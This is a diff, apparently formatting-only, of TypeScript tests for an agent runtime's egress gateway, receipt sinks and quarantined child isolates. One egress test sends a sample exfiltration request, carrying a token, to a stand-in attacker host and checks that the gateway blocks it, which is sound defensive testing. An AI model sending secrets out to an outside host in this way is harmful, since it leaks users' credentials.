@@ -38,7 +38,9 @@ const ok = () => Promise.resolve(new Response('upstream'));
 describe('the egress gateway', () => {
   it('lets allowed origins through and answers everything else 403, naming the host only', async () => {
     const allow = ['https://api.openai.com', 'http://127.0.0.1:8080'];
-    expect(await (await gatewayFetch(new Request('https://api.openai.com/v1/x'), { allow }, ok)).text()).toBe('upstream');
+    expect(await (await gatewayFetch(new Request('https://api.openai.com/v1/x'), { allow }, ok)).text()).toBe(
+      'upstream',
+    );
     const blocked = await gatewayFetch(new Request('https://evil.example/steal?token=t0k3n'), { allow }, ok);
     expect(blocked.status).toBe(403);
     expect(blocked.headers.get('x-agentdef-egress')).toBe('blocked');
@@ -54,16 +56,26 @@ describe('the egress gateway', () => {
 });
 
 describe('the receipt sink', () => {
-  const receipt = { runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ', pinning: { card: 'a', cardVersion: '1.0.0' }, signature: { value: 'abcdefghijklmnopqrstuvwxyz' } } as unknown as Receipt;
+  const receipt = {
+    runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ',
+    pinning: { card: 'a', cardVersion: '1.0.0' },
+    signature: { value: 'abcdefghijklmnopqrstuvwxyz' },
+  } as unknown as Receipt;
 
   it('writes one KV key per receipt, grouped by run id, or sends one queue message', async () => {
     const puts: [string, string][] = [];
-    const kvSink = receiptSinkFrom({ R: { put: async (k: string, v: string) => void puts.push([k, v]) } }, { binding: 'R', kind: 'kv' })!;
+    const kvSink = receiptSinkFrom(
+      { R: { put: async (k: string, v: string) => void puts.push([k, v]) } },
+      { binding: 'R', kind: 'kv' },
+    )!;
     await kvSink.put(receipt);
     expect(puts).toEqual([[receiptKey(receipt), JSON.stringify(receipt)]]);
     expect(receiptKey(receipt)).toBe('receipts/01J9ZZZZZZZZZZZZZZZZZZZZZZ/a@1.0.0/abcdefghijklmnop');
     const sent: unknown[] = [];
-    await receiptSinkFrom({ Q: { send: async (m: unknown) => void sent.push(m) } }, { binding: 'Q', kind: 'queue' })!.put(receipt);
+    await receiptSinkFrom(
+      { Q: { send: async (m: unknown) => void sent.push(m) } },
+      { binding: 'Q', kind: 'queue' },
+    )!.put(receipt);
     expect(sent).toEqual([receipt]);
     expect(receiptSinkFrom({}, { binding: 'R', kind: 'kv' })).toBeUndefined();
     expect(receiptSinkFrom({ R: {} }, undefined)).toBeUndefined();
@@ -76,13 +88,25 @@ const plan = (overrides: Partial<HostPlan> = {}): HostPlan => ({
   agent: { slug: 'a', version: '1.0.0' },
   planDigest: 'd',
   id: 'a@1.0.0:d:c',
-  workerCode: { compatibilityDate: '2026-07-01', compatibilityFlags: [], mainModule: 'worker.js', modules: { 'worker.js': 'export default {}' }, env: { PLAIN: 'v' } },
+  workerCode: {
+    compatibilityDate: '2026-07-01',
+    compatibilityFlags: [],
+    mainModule: 'worker.js',
+    modules: { 'worker.js': 'export default {}' },
+    env: { PLAIN: 'v' },
+  },
   bindings: [
     { name: 'KEY', kind: 'secret-ref', purpose: 'model-key', neededBy: ['a@1.0.0'], loader: 'copy-secret' },
     { name: 'SVC', kind: 'service', purpose: 'declared', neededBy: ['a@1.0.0'], loader: 'pass-through' },
     { name: 'CACHE', kind: 'kv', purpose: 'declared', neededBy: ['a@1.0.0'], loader: 'kv-proxy' },
     { name: 'DB', kind: 'd1', purpose: 'declared', neededBy: ['a@1.0.0'], loader: 'not-provided' },
-    { name: 'AGENTDEF_ISOLATES', kind: 'service', purpose: 'isolates', neededBy: ['a@1.0.0'], loader: 'isolate-service' },
+    {
+      name: 'AGENTDEF_ISOLATES',
+      kind: 'service',
+      purpose: 'isolates',
+      neededBy: ['a@1.0.0'],
+      loader: 'isolate-service',
+    },
   ],
   egress: { globalOutbound: 'egress-gateway', allow: ['https://api.openai.com'] },
   isolates: [],
@@ -99,9 +123,13 @@ const fakeExports = () => ({
 describe('the loader side', () => {
   it('refuses a host plan of another version or target, or without a main module or id', () => {
     expect(hostPlanProblem(plan())).toBeUndefined();
-    expect(hostPlanProblem(plan({ target: 'hb3' as never }))).toBe('the host plan is for target "hb3", not cloudflare-dynamic-worker');
+    expect(hostPlanProblem(plan({ target: 'hb3' as never }))).toBe(
+      'the host plan is for target "hb3", not cloudflare-dynamic-worker',
+    );
     expect(hostPlanProblem({ ...plan(), hostPlanVersion: 'v0' })).toMatch(/version is "v0"/);
-    expect(hostPlanProblem(plan({ workerCode: { ...plan().workerCode, mainModule: 'other.js' } }))).toBe('the host plan has no main module');
+    expect(hostPlanProblem(plan({ workerCode: { ...plan().workerCode, mainModule: 'other.js' } }))).toBe(
+      'the host plan has no main module',
+    );
     expect(hostPlanProblem(plan({ id: '' }))).toBe('the host plan has no id');
     expect(hostPlanProblem(null)).toBe('the host plan is not an object');
   });
@@ -109,8 +137,17 @@ describe('the loader side', () => {
   it('hands the loaded Worker exactly the bindings the plan provides', () => {
     const env = { KEY: 'secret-value', SVC: { fetch: ok }, CACHE: {}, DB: {}, OTHER: 'not in the plan' };
     const loaded = loadedEnv(plan(), env, fakeExports() as never);
-    expect(loaded).toEqual({ PLAIN: 'v', KEY: 'secret-value', SVC: env.SVC, CACHE: 'kv-proxy:CACHE', AGENTDEF_ISOLATES: 'isolate-service' });
-    expect(loadedEnv(plan(), { KEY: 42 }, fakeExports() as never)).toEqual({ PLAIN: 'v', AGENTDEF_ISOLATES: 'isolate-service' });
+    expect(loaded).toEqual({
+      PLAIN: 'v',
+      KEY: 'secret-value',
+      SVC: env.SVC,
+      CACHE: 'kv-proxy:CACHE',
+      AGENTDEF_ISOLATES: 'isolate-service',
+    });
+    expect(loadedEnv(plan(), { KEY: 42 }, fakeExports() as never)).toEqual({
+      PLAIN: 'v',
+      AGENTDEF_ISOLATES: 'isolate-service',
+    });
   });
 
   it('starts only the quarantined children the plan names, with the code it pins and the allow-list it gives', async () => {
@@ -129,19 +166,55 @@ describe('the loader side', () => {
         }),
       },
     };
-    const hostPlan = plan({ isolates: [{ nodeId: 'a@1.0.0/b@1.0.0', codeDigest: digest, egress: { allow: ['https://x.example'] }, secrets: ['KEY'], cpuMs: 5 }] });
-    const code = (modules: Record<string, string>): WorkerCode => ({ compatibilityDate: '2026-07-01', mainModule: 'isolate.js', modules, env: { KEY: 'k', SNEAKY: 's' } });
-    const run = (nodeId: string, modules: Record<string, string>) => runPlannedIsolate(hostPlan, env, fakeExports() as never, { nodeId, isolateId: 'i', code: code(modules), payload: '{}' });
+    const hostPlan = plan({
+      isolates: [
+        {
+          nodeId: 'a@1.0.0/b@1.0.0',
+          codeDigest: digest,
+          egress: { allow: ['https://x.example'] },
+          secrets: ['KEY'],
+          cpuMs: 5,
+        },
+      ],
+    });
+    const code = (modules: Record<string, string>): WorkerCode => ({
+      compatibilityDate: '2026-07-01',
+      mainModule: 'isolate.js',
+      modules,
+      env: { KEY: 'k', SNEAKY: 's' },
+    });
+    const run = (nodeId: string, modules: Record<string, string>) =>
+      runPlannedIsolate(hostPlan, env, fakeExports() as never, {
+        nodeId,
+        isolateId: 'i',
+        code: code(modules),
+        payload: '{}',
+      });
     expect(await run('a@1.0.0/b@1.0.0', { 'isolate.js': source })).toBe('{"result":"ran"}');
     // The host's own isolate service (so a grandchild can start), never a stub sent through RPC.
-    expect(loaded[0]).toMatchObject({ env: { KEY: 'k', AGENTDEF_ISOLATES: 'isolate-service' }, limits: { cpuMs: 5 }, globalOutbound: { gateway: ['https://x.example'] } });
+    expect(loaded[0]).toMatchObject({
+      env: { KEY: 'k', AGENTDEF_ISOLATES: 'isolate-service' },
+      limits: { cpuMs: 5 },
+      globalOutbound: { gateway: ['https://x.example'] },
+    });
     expect(loaded[0]!.env).not.toHaveProperty('SNEAKY');
     const withoutService = { ...hostPlan, bindings: hostPlan.bindings.filter((b) => b.loader !== 'isolate-service') };
-    expect(await runPlannedIsolate(withoutService, env, fakeExports() as never, { nodeId: 'a@1.0.0/b@1.0.0', isolateId: 'i', code: code({ 'isolate.js': source }), payload: '{}' })).toBe('{"result":"ran"}');
+    expect(
+      await runPlannedIsolate(withoutService, env, fakeExports() as never, {
+        nodeId: 'a@1.0.0/b@1.0.0',
+        isolateId: 'i',
+        code: code({ 'isolate.js': source }),
+        payload: '{}',
+      }),
+    ).toBe('{"result":"ran"}');
     expect(loaded[1]!.env).toEqual({ KEY: 'k' });
     loaded.pop();
-    expect(await run('a@1.0.0/z@1.0.0', { 'isolate.js': source })).toContain('is not a quarantined child in the host plan');
-    expect(await run('a@1.0.0/b@1.0.0', { 'isolate.js': `${source};globalThis.x=1` })).toContain('is not the code the host plan pins');
+    expect(await run('a@1.0.0/z@1.0.0', { 'isolate.js': source })).toContain(
+      'is not a quarantined child in the host plan',
+    );
+    expect(await run('a@1.0.0/b@1.0.0', { 'isolate.js': `${source};globalThis.x=1` })).toContain(
+      'is not the code the host plan pins',
+    );
     expect(await run('a@1.0.0/b@1.0.0', { 'isolate.js': source, 'extra.js': '' })).toContain('unexpected modules');
     expect(loaded).toHaveLength(1);
   });
@@ -158,7 +231,12 @@ const spec = (overrides: Partial<IsolateSpec> = {}): IsolateSpec => ({
 });
 
 describe('the parent side of a quarantined run', () => {
-  const request = { input: { text: 'hi' }, runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ', composedIn: { card: 'p', cardVersion: '1.0.0' }, remainingMs: 1000 };
+  const request = {
+    input: { text: 'hi' },
+    runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ',
+    composedIn: { card: 'p', cardVersion: '1.0.0' },
+    remainingMs: 1000,
+  };
 
   it('loads the child through LOADER, fresh per run, with only its secrets and no network when it needs none; delivers its receipts', async () => {
     const seen: { id: string; code: WorkerCode }[] = [];
@@ -170,35 +248,80 @@ describe('the parent side of a quarantined run', () => {
       LOADER: {
         get: (id: string, code: () => WorkerCode) => {
           seen.push({ id, code: code() });
-          return { getEntrypoint: () => ({ fetch: async () => new Response(JSON.stringify({ result: { stopReason: 'answer', answer: { text: 'ok' } }, receipts: [{ r: 1 }, { r: 2 }] })) }) };
+          return {
+            getEntrypoint: () => ({
+              fetch: async () =>
+                new Response(
+                  JSON.stringify({
+                    result: { stopReason: 'answer', answer: { text: 'ok' } },
+                    receipts: [{ r: 1 }, { r: 2 }],
+                  }),
+                ),
+            }),
+          };
         },
       },
     };
-    const result = await runIsolate(spec(), request, { env, waitUntil: (p) => void waited.push(p), sink: { put: async (r) => void delivered.push(r) } });
+    const result = await runIsolate(spec(), request, {
+      env,
+      waitUntil: (p) => void waited.push(p),
+      sink: { put: async (r) => void delivered.push(r) },
+    });
     await Promise.all(waited);
     expect(result).toEqual({ stopReason: 'answer', answer: { text: 'ok' } });
     expect(delivered).toEqual([{ r: 1 }, { r: 2 }]);
     expect(seen[0]!.id).toBe(isolateId(await codeDigest('export default {}'), 'p@1.0.0/c@1.0.0', request.runId));
     expect(seen[0]!.id).toMatch(/^[0-9a-f]{32}:p@1\.0\.0\/c@1\.0\.0#01J9Z+$/);
-    expect(seen[0]!.code).toMatchObject({ mainModule: 'isolate.js', modules: { 'isolate.js': 'export default {}' }, env: { KEY: 'k' }, globalOutbound: null });
+    expect(seen[0]!.code).toMatchObject({
+      mainModule: 'isolate.js',
+      modules: { 'isolate.js': 'export default {}' },
+      env: { KEY: 'k' },
+      globalOutbound: null,
+    });
     expect(seen[0]!.code.env).not.toHaveProperty('OTHER_SECRET');
   });
 
   it('gives a child that needs the network the egress gateway, asks the host when it has no loader, and fails without either', async () => {
     const outbound: unknown[] = [];
-    const env = { LOADER: { get: (_id: string, code: () => WorkerCode) => (outbound.push(code().globalOutbound), { getEntrypoint: () => ({ fetch: async () => new Response('{"result":{"stopReason":"answer"}}') }) }) } };
-    await runIsolate(spec({ egress: ['https://x.example'] }), request, { env, exports: { AgentdefEgress: (o) => ({ fetch: ok, allow: o.props.allow }) as never }, waitUntil: () => {} });
+    const env = {
+      LOADER: {
+        get: (_id: string, code: () => WorkerCode) => (
+          outbound.push(code().globalOutbound),
+          { getEntrypoint: () => ({ fetch: async () => new Response('{"result":{"stopReason":"answer"}}') }) }
+        ),
+      },
+    };
+    await runIsolate(spec({ egress: ['https://x.example'] }), request, {
+      env,
+      exports: { AgentdefEgress: (o) => ({ fetch: ok, allow: o.props.allow }) as never },
+      waitUntil: () => {},
+    });
     expect(outbound).toEqual([{ fetch: ok, allow: ['https://x.example'] }]);
-    await expect(runIsolate(spec({ egress: ['https://x.example'] }), request, { env, waitUntil: () => {} })).rejects.toThrow('needs the network but this Worker exports no egress gateway');
+    await expect(
+      runIsolate(spec({ egress: ['https://x.example'] }), request, { env, waitUntil: () => {} }),
+    ).rejects.toThrow('needs the network but this Worker exports no egress gateway');
 
     const calls: unknown[] = [];
     const service = { run: async (r: unknown) => (calls.push(r), '{"result":{"stopReason":"answer"}}') };
-    expect(await runIsolate(spec(), request, { env: { AGENTDEF_ISOLATES: service, KEY: 'k' }, waitUntil: () => {} })).toEqual({ stopReason: 'answer' });
+    expect(
+      await runIsolate(spec(), request, { env: { AGENTDEF_ISOLATES: service, KEY: 'k' }, waitUntil: () => {} }),
+    ).toEqual({ stopReason: 'answer' });
     // The service stub itself is not passed on through RPC (workerd 1.20260426 cannot serialize one); the host adds its own.
-    expect(calls).toEqual([expect.objectContaining({ nodeId: 'p@1.0.0/c@1.0.0', code: expect.objectContaining({ env: { KEY: 'k' } }) })]);
-    await expect(runIsolate(spec(), request, { env: {}, waitUntil: () => {} })).rejects.toThrow('has no Worker Loader binding (LOADER)');
-    await expect(runIsolate(spec(), request, { env: { AGENTDEF_ISOLATES: { run: async () => 'not json' } }, waitUntil: () => {} })).rejects.toThrow('not JSON');
-    await expect(runIsolate(spec(), request, { env: { AGENTDEF_ISOLATES: { run: async () => '{"error":"boom"}' } }, waitUntil: () => {} })).rejects.toThrow('its isolate failed (boom)');
+    expect(calls).toEqual([
+      expect.objectContaining({ nodeId: 'p@1.0.0/c@1.0.0', code: expect.objectContaining({ env: { KEY: 'k' } }) }),
+    ]);
+    await expect(runIsolate(spec(), request, { env: {}, waitUntil: () => {} })).rejects.toThrow(
+      'has no Worker Loader binding (LOADER)',
+    );
+    await expect(
+      runIsolate(spec(), request, { env: { AGENTDEF_ISOLATES: { run: async () => 'not json' } }, waitUntil: () => {} }),
+    ).rejects.toThrow('not JSON');
+    await expect(
+      runIsolate(spec(), request, {
+        env: { AGENTDEF_ISOLATES: { run: async () => '{"error":"boom"}' } },
+        waitUntil: () => {},
+      }),
+    ).rejects.toThrow('its isolate failed (boom)');
   });
 });
 
@@ -213,9 +336,21 @@ describe('the child side of a quarantined run', () => {
       children: {},
       parts: { receiptSigning: signedReceipts },
     };
-    const body = { input: { text: '{"a":2,"b":3}' }, runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ', composedIn: { card: 'p', cardVersion: '1.0.0' }, remainingMs: 5000 };
-    const response = await handleIsolateRun(new Request('https://isolate.agentdef.invalid/run', { method: 'POST', body: JSON.stringify(body) }), agent, { env: { RECEIPT_SIGNING_JWK: JSON.stringify(keys.privateJwk) } });
-    const reply = (await response.json()) as { result: { stopReason: string; answer: { data: unknown }; receipt?: unknown }; receipts: Receipt[] };
+    const body = {
+      input: { text: '{"a":2,"b":3}' },
+      runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ',
+      composedIn: { card: 'p', cardVersion: '1.0.0' },
+      remainingMs: 5000,
+    };
+    const response = await handleIsolateRun(
+      new Request('https://isolate.agentdef.invalid/run', { method: 'POST', body: JSON.stringify(body) }),
+      agent,
+      { env: { RECEIPT_SIGNING_JWK: JSON.stringify(keys.privateJwk) } },
+    );
+    const reply = (await response.json()) as {
+      result: { stopReason: string; answer: { data: unknown }; receipt?: unknown };
+      receipts: Receipt[];
+    };
     expect(reply.result.stopReason).toBe('answer');
     expect(reply.result.answer.data).toEqual({ sum: 5 });
     expect(reply.result).not.toHaveProperty('receipt');
@@ -223,7 +358,13 @@ describe('the child side of a quarantined run', () => {
     expect(reply.receipts[0]).toMatchObject({ runId: body.runId, composedIn: { card: 'p', cardVersion: '1.0.0' } });
     expect(await verifyReceipt(reply.receipts[0], keys.publicJwk)).toBe(true);
     expect((await handleIsolateRun(new Request('https://i/run'), agent, { env: {} })).status).toBe(405);
-    expect((await handleIsolateRun(new Request('https://i/run', { method: 'POST', body: '{"input":{}}' }), agent, { env: {} })).status).toBe(400);
+    expect(
+      (
+        await handleIsolateRun(new Request('https://i/run', { method: 'POST', body: '{"input":{}}' }), agent, {
+          env: {},
+        })
+      ).status,
+    ).toBe(400);
   });
 
   it('caps the child wall clock by what is left of the parent', () => {
@@ -237,15 +378,23 @@ describe('the child side of a quarantined run', () => {
 describe('the run dependencies of a compiled agent', () => {
   it('read secrets from env by name, build the tools from env, and add a child runner only for dags', async () => {
     const config = toolOnlyConfig();
-    const deps = nodeDeps({ nodeId: 'a', config, tools: (env) => ({ t: () => env['X'] }), children: {} }, { env: { OPENAI_API_KEY: TEST_KEY, X: 'from env', N: 1 }, waitUntil: () => {} });
+    const deps = nodeDeps(
+      { nodeId: 'a', config, tools: (env) => ({ t: () => env['X'] }), children: {} },
+      { env: { OPENAI_API_KEY: TEST_KEY, X: 'from env', N: 1 }, waitUntil: () => {} },
+    );
     expect(deps.runChild).toBeUndefined();
     expect(await (deps.tools!['t'] as () => unknown)()).toBe('from env');
     const secrets = secretsOf({ A: 'a', N: 1 });
     expect([secrets('A'), secrets('N'), secrets('missing')]).toEqual(['a', undefined, undefined]);
     const children = { 'a/b@1.0.0': { kind: 'isolate' as const, isolate: spec() } };
-    const withChild = nodeDeps({ nodeId: 'a', config, tools: () => ({}), children, runChildren: childRunner }, { env: {}, waitUntil: () => {} });
+    const withChild = nodeDeps(
+      { nodeId: 'a', config, tools: () => ({}), children, runChildren: childRunner },
+      { env: {}, waitUntil: () => {} },
+    );
     expect(typeof withChild.runChild).toBe('function');
-    expect(nodeDeps({ nodeId: 'a', config, tools: () => ({}), children }, { env: {}, waitUntil: () => {} }).runChild).toBeUndefined();
+    expect(
+      nodeDeps({ nodeId: 'a', config, tools: () => ({}), children }, { env: {}, waitUntil: () => {} }).runChild,
+    ).toBeUndefined();
   });
 
   it('logs one line per run and every problem, nothing else', () => {
@@ -253,7 +402,8 @@ describe('the run dependencies of a compiled agent', () => {
     const original = console.log;
     console.log = (line: string) => void lines.push(line);
     try {
-      for (const event of ['run.start', 'tool.call', 'run.end', 'egress.blocked', 'model.call']) runtimeLog({ event, runId: 'r' });
+      for (const event of ['run.start', 'tool.call', 'run.end', 'egress.blocked', 'model.call'])
+        runtimeLog({ event, runId: 'r' });
     } finally {
       console.log = original;
     }
@@ -262,16 +412,29 @@ describe('the run dependencies of a compiled agent', () => {
 
   it('reaches a service binding through serviceFetch, and fails readably when it is missing', async () => {
     const calls: string[] = [];
-    const fetchMcp = serviceFetch({ 'MCP-X': { fetch: async (input: Request | string) => (calls.push(String(input)), new Response('ok')) } }, 'MCP-X');
+    const fetchMcp = serviceFetch(
+      { 'MCP-X': { fetch: async (input: Request | string) => (calls.push(String(input)), new Response('ok')) } },
+      'MCP-X',
+    );
     expect(await (await fetchMcp(new URL('https://mcp.example/mcp'))).text()).toBe('ok');
     expect(calls).toEqual(['https://mcp.example/mcp']);
-    await expect(serviceFetch({}, 'MCP-X')('https://mcp.example/')).rejects.toThrow('service binding MCP-X is not configured');
+    await expect(serviceFetch({}, 'MCP-X')('https://mcp.example/')).rejects.toThrow(
+      'service binding MCP-X is not configured',
+    );
   });
 });
 
 describe('portability', () => {
   it('bundles for the neutral platform with nothing external and imports no Node built-in', async () => {
-    const out = await build({ entryPoints: [join(__dirname, 'index.ts')], bundle: true, write: false, platform: 'neutral', format: 'esm', logLevel: 'silent', metafile: true });
+    const out = await build({
+      entryPoints: [join(__dirname, 'index.ts')],
+      bundle: true,
+      write: false,
+      platform: 'neutral',
+      format: 'esm',
+      logLevel: 'silent',
+      metafile: true,
+    });
     const inputs = Object.keys(out.metafile.inputs);
     expect(inputs.some((i) => i.includes('node_modules'))).toBe(false);
     expect(out.outputFiles[0]!.text).not.toMatch(/from\s*["']node:|require\(/);
